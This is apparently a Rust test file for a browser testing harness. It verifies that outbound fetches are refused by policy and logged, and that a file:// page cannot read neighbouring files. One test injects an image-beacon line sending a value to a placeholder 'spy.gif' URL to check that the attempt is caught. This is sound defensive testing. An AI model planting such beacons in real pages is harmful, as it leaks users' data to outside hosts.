use kilter_journeys::Fetched;
use serde_json::json;

use crate::{failure, open_stub, visitor};

#[test]
fn a_policy_refuses_and_the_log_knows() {
    let joe = open_stub();
    joe.click_button("Count")
        .sees("Counted 1")
        .asked_nobody()
        .console_is_quiet();
    assert_eq!(
        joe.tries_to_fetch("https://example.org/"),
        Fetched::RefusedByPolicy
    );
    joe.asked_nobody().console_is_quiet();

    // An attempt that nobody dared is a fault, although the policy refuses it.
    joe.script(
        "new Image().src = 'https://example.org/spy.gif?' + arguments[0]",
        &[json!("millbrook")],
    );
    let said = failure(|| joe.asked_nobody());
    assert!(
        said.contains("https://example.org/spy.gif?millbrook"),
        "{said}"
    );
    assert!(
        joe.requests()
            .iter()
            .any(|request| request.url.contains("spy.gif") && request.refused_by_policy)
    );
    assert!(failure(|| joe.console_is_quiet()).contains("spy.gif"));
}

/// If this reads its neighbour, the browser is too permissive and every journey over `file://` is void.
#[test]
fn a_page_in_a_folder_cannot_read_its_neighbours() {
    let joe = visitor("open.html").open();
    joe.folder().put("beside.json", "{}");
    assert_eq!(joe.tries_to_fetch("beside.json"), Fetched::Failed);
    assert_eq!(joe.tries_to_fetch("https://example.org/"), Fetched::Failed);
    assert_eq!(
        joe.tries_to_fetch("data:text/plain,hello"),
        Fetched::Answered
    );
    assert!(failure(|| joe.asked_nobody()).contains("https://example.org/"));
}
